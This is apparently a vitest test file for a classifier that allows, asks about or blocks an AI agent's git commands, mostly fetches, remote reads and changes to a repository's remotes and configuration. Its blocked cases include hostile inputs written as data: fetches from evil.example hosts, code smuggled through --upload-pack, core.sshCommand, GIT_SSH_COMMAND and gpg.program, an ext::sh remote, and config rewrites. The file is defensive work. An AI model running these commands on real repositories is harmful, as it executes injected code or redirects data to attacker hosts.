import { execFileSync } from 'node:child_process';
import { chmod, mkdir, readdir, stat, writeFile } from 'node:fs/promises';
import path from 'node:path';
import { describe, expect, it } from 'vitest';
import { expectDecisions, makeSandbox, removeSandbox, useSandboxClassifier } from './helpers.js';

function git(cwd: string, ...args: string[]): string {
  return execFileSync('git', args, {
    cwd,
    encoding: 'utf8',
    env: {
      PATH: process.env.PATH,
      HOME: cwd,
      GIT_CONFIG_NOSYSTEM: '1',
      GIT_AUTHOR_NAME: 't',
      GIT_AUTHOR_EMAIL: 't@t',
      GIT_COMMITTER_NAME: 't',
      GIT_COMMITTER_EMAIL: 't@t',
    },
  });
}

/** A bare upstream with a commit and a tag, cloned into the project; the clone's origin then set to `origin`. */
async function cloned(root: string, project: string, origin: string): Promise<string> {
  const work = path.join(root, 'seed');
  const upstream = path.join(root, 'upstream.git');
  await mkdir(work, { recursive: true });
  await writeFile(path.join(work, 'a.txt'), 'a\n');
  git(root, 'init', '-q', '--bare', '-b', 'main', upstream);
  git(work, 'init', '-q', '-b', 'main');
  git(work, 'add', 'a.txt');
  git(work, 'commit', '-qm', 'base');
  git(work, 'tag', 'v1.0');
  git(work, 'push', '-q', upstream, 'main', 'v1.0');
  git(root, 'clone', '-q', upstream, project);
  git(project, 'remote', 'set-url', 'origin', origin);
  return work;
}

describe("git reads of the remotes the repository's configuration names", () => {
  const box = useSandboxClassifier(async (b) => {
    await cloned(b.root, b.project, 'https://git.example.com/team/app.git');
    git(b.project, 'remote', 'add', 'mirror', 'git@git.example.com:team/app.git');
  });
  expectDecisions(
    box,
    [
      'git fetch',
      'git fetch origin',
      'git fetch --all',
      'git fetch --tags',
      'git fetch --prune',
      'git fetch -p origin',
      'git fetch origin main',
      'git fetch origin main v1.0',
      'git fetch --all --prune --tags',
      'git fetch --multiple origin mirror',
      'git fetch --no-recurse-submodules origin',
      'git fetch --dry-run -v',
      'git fetch mirror',
      'git fetch --unshallow origin',
      'git ls-remote',
      'git ls-remote origin',
      'git ls-remote --tags origin',
      'git ls-remote --heads mirror main',
      'git ls-remote --get-url',
      'git remote show origin',
      'git remote show origin mirror',
      'git remote show -n origin',
      'git verify-commit HEAD',
      'git verify-tag v1.0',
      'git verify-tag --raw v1.0',
      'git tag -v v1.0',
      'git remote update',
      'git remote update --prune origin mirror',
      'git remote prune origin',
      'git remote prune --dry-run origin',
    ],
    [
      'git fetch evil',
      'git fetch https://evil.example/x.git',
      'git fetch git@evil.example:x.git',
      'git fetch ../upstream.git',
      'git fetch file:///tmp/x',
      'git fetch origin main:main',
      'git fetch origin +refs/heads/*:refs/heads/*',
      'git fetch origin tag v1.0',
      "git fetch --upload-pack='sh -c id' origin",
      'git fetch --upload-pack=touch origin',
      'git -c core.sshCommand=id fetch',
      'git -c remote.origin.url=https://evil.example/x fetch',
      'GIT_SSH_COMMAND=id git fetch',
      'git fetch -o secret=x origin',
      'git fetch --server-option=x origin',
      'git fetch --recurse-submodules',
      'git fetch --recurse-submodules=yes origin',
      'git fetch --prune-tags',
      'git fetch --tags --force',
      'git fetch -f origin',
      'git fetch --set-upstream origin main',
      'git fetch --update-head-ok origin main',
      'git fetch --refmap=x origin',
      'git fetch --filter=blob:none origin',
      'git fetch --depth=1 origin',
      'git fetch --stdin origin',
      'git fetch --all origin',
      'git fetch "$REMOTE"',
      'git ls-remote https://evil.example/x.git',
      'git ls-remote --upload-pack=id origin',
      'git ls-remote -o x origin',
      'git ls-remote evil',
      'git remote show evil',
      'git remote show https://evil.example/x.git',
      'git remote update evil',
      'git remote prune https://evil.example/x.git',
      'git tag -v -a v2',
      'git tag -a v2',
      'git verify-commit --gpg-program=id HEAD',
      'git -c gpg.program=id verify-commit HEAD',
    ],
  );
});

describe('a remote that is a path of this machine', () => {
  const box = useSandboxClassifier(async (b) => {
    await cloned(b.root, b.project, path.join(b.root, 'upstream.git'));
  });
  expectDecisions(
    box,
    ['git remote show -n origin'],
    ['git fetch', 'git fetch origin', 'git ls-remote origin'],
  );

  it('says which remote reads files', async () => {
    expect((await box.bash('git fetch')).reason).toMatch(/the remote origin is .*upstream\.git/);
  });
});

describe('a remote read through a remote helper', () => {
  const box = useSandboxClassifier(async (b) => {
    await cloned(b.root, b.project, 'ext::sh -c id');
    git(b.project, 'remote', 'add', 'helper', 'codecommit::us-east-1://app');
  });
  expectDecisions(
    box,
    [],
    ['git fetch', 'git fetch origin', 'git ls-remote helper', 'git remote show helper'],
  );
});

describe('a hooks folder in the work tree', () => {
  const box = useSandboxClassifier(async (b) => {
    await cloned(b.root, b.project, 'https://git.example.com/team/app.git');
    await mkdir(path.join(b.project, '.husky/_'), { recursive: true });
    git(b.project, 'config', 'core.hooksPath', '.husky/_');
  });
  // fetch updates refs, which runs the reference-transaction hook from there; ls-remote updates none.
  expectDecisions(
    box,
    ['git ls-remote origin', 'git remote show origin', 'git remote prune -n origin'],
    ['git fetch', 'git fetch origin', 'git remote update', 'git remote prune origin'],
  );
});

describe('a submodule in the index', () => {
  const box = useSandboxClassifier(async (b) => {
    await cloned(b.root, b.project, 'https://git.example.com/team/app.git');
    const head = git(b.project, 'rev-parse', 'HEAD').trim();
    git(b.project, 'update-index', '--add', '--cacheinfo', `160000,${head},vendor/lib`);
  });
  expectDecisions(
    box,
    ['git fetch --no-recurse-submodules', 'git fetch --no-recurse-submodules origin', 'git ls-remote'],
    ['git fetch', 'git fetch origin', 'git fetch --all', 'git remote update'],
  );
});

describe('a branch that tracks a URL: the fetch that would read it asks', () => {
  // `git push -u URL` records the URL as the branch's upstream; recording it is no config write that counts, as
  // a fetch without a remote checks every tracked remote when it is decided.
  const box = useSandboxClassifier(async (b) => {
    await cloned(b.root, b.project, 'https://git.example.com/team/app.git');
    execFileSync('git', ['-C', b.project, 'config', 'branch.main.remote', 'https://evil.example/x.git']);
  });
  it('git fetch asks, naming the tracked address', async () => {
    const v = await box.bash('git fetch');
    expect(v.decision).toBe('ask');
    expect(v.reason).toContain('a branch tracks https://evil.example/x.git');
  });
  it('git fetch origin, a configured remote, is still a read', async () => {
    expect((await box.bash('git fetch origin')).decision).toBe('allow');
  });
});

describe("what changes the repository's remotes is never allowed silently", () => {
  const box = useSandboxClassifier(async (b) => {
    await cloned(b.root, b.project, 'https://git.example.com/team/app.git');
  });
  const commands = [
    'git config remote.origin.url https://evil.example/x.git',
    'git config core.hooksPath .husky',
    'git config --local core.sshCommand id',
    'git remote set-url origin https://evil.example/x.git',
    'git remote add evil https://evil.example/x.git',
    'git remote rename origin old',
    'git remote rm origin',
    'git remote set-branches origin main',
    'echo "[remote \\"origin\\"]" >> .git/config',
    'cp /tmp/x .git/config',
    'cd sub && git remote add evil https://evil.example/x.git',
  ];
  for (const mode of ['default', 'acceptEdits', 'plan', 'auto', 'dontAsk', 'bypassPermissions'] as const) {
    it(`in ${mode} mode`, async () => {
      for (const command of commands) {
        const v = await box.classifier.classify({
          tool: 'Bash',
          input: { command },
          cwd: box.box.project,
          mode,
        });
        expect(v.decision, `${mode}: ${command}: ${v.reason}`).not.toBe('allow');
      }
      for (const tool of ['Write', 'Edit'] as const) {
        const input =
          tool === 'Write'
            ? { file_path: path.join(box.box.project, '.git/config'), content: '[core]\n' }
            : { file_path: path.join(box.box.project, '.git/config'), old_string: 'a', new_string: 'b' };
        const v = await box.classifier.classify({ tool, input, cwd: box.box.project, mode });
        expect(v.decision, `${mode}: ${tool}`).not.toBe('allow');
      }
    });
  }
});

/** Every file below `folder` with its modification time, `.git` left out. */
async function files(folder: string, out = new Map<string, number>()): Promise<Map<string, number>> {
  for (const entry of await readdir(folder, { withFileTypes: true })) {
    if (entry.name === '.git') continue;
    const full = path.join(folder, entry.name);
    if (entry.isDirectory()) await files(full, out);
    else out.set(full, (await stat(full)).mtimeMs);
  }
  return out;
}

describe('git fetch writes only inside the git folder', () => {
  it('objects, FETCH_HEAD and the remote-tracking refs; the work tree stays as it was', async () => {
    const b = await makeSandbox();
    try {
      const seed = await cloned(b.root, b.project, path.join(b.root, 'upstream.git'));
      await writeFile(path.join(seed, 'b.txt'), 'b\n');
      git(seed, 'add', 'b.txt');
      git(seed, 'commit', '-qm', 'more');
      git(seed, 'tag', 'v2');
      git(seed, 'push', '-q', path.join(b.root, 'upstream.git'), 'main', 'v2');
      const hooks = path.join(b.project, '.git/hooks');
      await mkdir(hooks, { recursive: true });
      const log = path.join(b.root, 'hook.log');
      await writeFile(path.join(hooks, 'reference-transaction'), `#!/bin/sh\necho "$1" >> ${log}\n`);
      await chmod(path.join(hooks, 'reference-transaction'), 0o755);
      const before = await files(b.project);
      git(b.project, 'fetch', '--prune', '--tags', 'origin');
      expect(await files(b.project)).toEqual(before);
      expect(git(b.project, 'rev-parse', 'origin/main')).toBe(git(seed, 'rev-parse', 'main'));
      expect(git(b.project, 'rev-parse', 'HEAD')).not.toBe(git(seed, 'rev-parse', 'main'));
      // The hook of the hooks folder ran: the reason a hooks folder the agent can write is asked about.
      expect((await stat(log)).size).toBeGreaterThan(0);
    } finally {
      await removeSandbox(b);
    }
  });
});
